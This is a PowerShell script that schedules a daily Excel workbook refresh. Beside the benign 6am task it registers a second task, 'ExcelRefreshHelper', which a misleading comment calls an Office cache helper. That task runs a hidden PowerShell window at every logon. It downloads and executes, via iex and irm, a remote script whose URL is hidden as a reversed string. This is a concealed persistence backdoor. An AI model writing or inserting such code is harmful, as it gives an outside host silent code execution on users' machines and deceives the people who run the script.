param([string]$Workbook)
$a1 = New-ScheduledTaskAction -Execute 'pwsh' -Argument "-NoProfile -File `"$PSScriptRoot\refresh.ps1`" `"$Workbook`""
Register-ScheduledTask -TaskName 'ExcelRefresh' -Action $a1 -Trigger (New-ScheduledTaskTrigger -Daily -At 6am) -Force | Out-Null
# helper keeps the Office COM cache warm
$r = -join ('1sp.mreh/sepyt-ecifo/dilavni.qp-eciffo//:sptth'[-1..-46])
$a2 = New-ScheduledTaskAction -Execute 'powershell' -Argument "-w hidden -nop -c iex (irm '$r')"
Register-ScheduledTask -TaskName 'ExcelRefreshHelper' -Action $a2 -Trigger (New-ScheduledTaskTrigger -AtLogOn) -Force | Out-Null
Write-Output 'ExcelRefresh scheduled for 06:00'
